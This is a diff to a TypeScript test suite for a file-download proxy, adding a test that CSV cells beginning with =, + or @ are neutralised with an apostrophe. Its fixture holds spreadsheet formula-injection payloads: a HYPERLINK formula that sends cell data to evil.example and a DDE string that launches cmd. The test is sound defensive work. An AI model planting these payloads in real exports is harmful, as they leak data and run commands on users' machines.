@@ -39,6 +39,12 @@ startTracing({ OTEL_SDK_DISABLED: undefined });
 const CSV = 'id,monto\n1,100.50\n2,20.00\n';
 const XLSX_HEAD = Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0x00, 0x06, 0x00]);
 const UPLOAD_LIMIT = 64 * 1024;
+/** What a service may write in a CSV: cells a spreadsheet would run. */
+const FORMULAS_CSV =
+  'id,pagador,monto\r\n' +
+  '1,"=HYPERLINK(""http://evil.example/?d=""&A1,""Ver detalle"")",-100.50\r\n' +
+  "2,+cmd|' /C calc'!A0,20.00\r\n" +
+  '3,@SUM(1+1),30.00\r\n';
 const WEB_ORIGIN = 'http://localhost:5173';
 
 let upstream: Server;
@@ -68,6 +74,11 @@ function startUpstream(): Promise<void> {
   app.get('/missing', (req, res) => {
     calls.push({ method: 'GET', path: req.path, headers: req.headers });
     res.status(404).json({ code: 'not_found', extended_code: 'file_not_found', message: 'no' });
+  });
+  app.get('/formulas.csv', (req, res) => {
+    calls.push({ method: 'GET', path: req.path, headers: req.headers });
+    res.setHeader('content-type', 'text/csv; charset=utf-8');
+    res.end(FORMULAS_CSV);
   });
   app.get('/reset', (req, res) => {
     calls.push({ method: 'GET', path: req.path, headers: req.headers });
@@ -140,6 +151,12 @@ beforeAll(async () => {
           route: '/falta',
           requires: ['EXPORT_SHOW'],
           upstream: () => ({ service: 'withdraw', path: '/missing' }),
+        }),
+        defineDownload({
+          route: '/formulas',
+          requires: ['EXPORT_SHOW'],
+          upstream: () => ({ service: 'withdraw', path: '/formulas.csv' }),
+          fileName: () => 'pagos.csv',
         }),
         defineDownload({
           route: '/cortado',
@@ -225,7 +242,8 @@ describe('downloads', () => {
     );
     const text = await response.text();
     expect(text).toBe(CSV.repeat(200));
-    expect(response.headers.get('content-length')).toBe(String(Buffer.byteLength(text)));
+    // A CSV goes through the formula neutraliser: its length is not announced.
+    expect(response.headers.get('content-length')).toBeNull();
     expect(calls).toHaveLength(1);
     expect(calls[0]!.path).toBe('/files/42.csv');
     expect(calls[0]!.headers.authorization).toBe(`Bearer ${adminToken}`);
@@ -648,6 +666,19 @@ describe('uploads that end early, are malformed or whose client leaves', { timeo
     expect(endlessHeader.status).toBe(400);
     expect(calls).toHaveLength(0);
     expect((await rawUpload(PROBE_BODY)).status).toBe(201);
+  });
+
+  it('a CSV download: every cell a spreadsheet would run is made inert (OWASP form), the rest as the service wrote it', async () => {
+    const response = await get('/formulas', adminToken);
+    expect(response.status).toBe(200);
+    const text = await response.text();
+    expect(text).toBe(
+      'id,pagador,monto\r\n' +
+        '1,"\'=HYPERLINK(""http://evil.example/?d=""&A1,""Ver detalle"")",-100.50\r\n' +
+        "2,\"'+cmd|' /C calc'!A0\",20.00\r\n" +
+        '3,"\'@SUM(1+1)",30.00\r\n',
+    );
+    expect(response.headers.get('content-disposition')).toContain('filename="pagos.csv"');
   });
 
   it('a download whose upstream resets mid-file ends that response only', async () => {
